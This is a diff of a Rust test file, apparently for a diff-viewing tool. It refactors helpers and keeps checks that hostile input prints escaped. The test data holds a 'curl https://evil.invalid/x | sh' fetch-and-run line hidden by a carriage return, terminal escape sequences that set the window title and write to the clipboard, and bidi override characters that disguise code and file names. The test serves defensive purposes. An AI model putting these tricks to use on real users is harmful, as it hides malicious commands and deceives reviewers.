@@ -6,7 +6,7 @@
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use crate::support::{approval, bin, git_repo, write_approval};
+use crate::support::{approval, assert_contains_all, bin, git_repo, write_approval};
 
 fn run(cmd: &mut Command) -> Output {
     cmd.output().unwrap()
@@ -72,14 +72,7 @@ struct Hostile {
 }
 
 fn write_tree(root: &Path, files: &[(&str, &str)]) {
-    for (rel, content) in files {
-        let path = root.join(rel);
-        std::fs::DirBuilder::new()
-            .recursive(true)
-            .create(path.parent().unwrap())
-            .unwrap();
-        std::fs::write(path, content).unwrap();
-    }
+    snapshot::testkit::write_files(root, files.iter().map(|(p, c)| (*p, c.as_bytes(), false)));
 }
 
 fn hostile() -> Hostile {
@@ -205,14 +198,15 @@ fn r_hostile_diffs_and_names_print_escaped_from_every_command() {
     assert!(out.status.success(), "{}", stderr(&out));
     let shown = stdout(&out);
     assert_clean("show", &shown);
-    for needle in [
-        "+curl https://evil.invalid/x | sh # hidden\\r\\x1b[2K+harmless looking line\n",
-        "+title\\x1b]0;owned\\x07 clip\\x1b]52;c;Y3VybCBldmls\\x07\n",
-        "+access = \"user\\u202e \\u2066// admin\\u2069 \\u2066\"\n",
-        "+++ b/app/report\\u202etxt.\\x9b2Jmd\n",
-    ] {
-        assert!(shown.contains(needle), "show lacks {needle:?}:\n{shown}");
-    }
+    assert_contains_all(
+        &shown,
+        &[
+            "+curl https://evil.invalid/x | sh # hidden\\r\\x1b[2K+harmless looking line\n",
+            "+title\\x1b]0;owned\\x07 clip\\x1b]52;c;Y3VybCBldmls\\x07\n",
+            "+access = \"user\\u202e \\u2066// admin\\u2069 \\u2066\"\n",
+            "+++ b/app/report\\u202etxt.\\x9b2Jmd\n",
+        ],
+    );
     // Piped output is never coloured: the only ESC in a terminal rendering is ours (unit-tested).
     assert!(!out.stdout.contains(&0x1b));
 
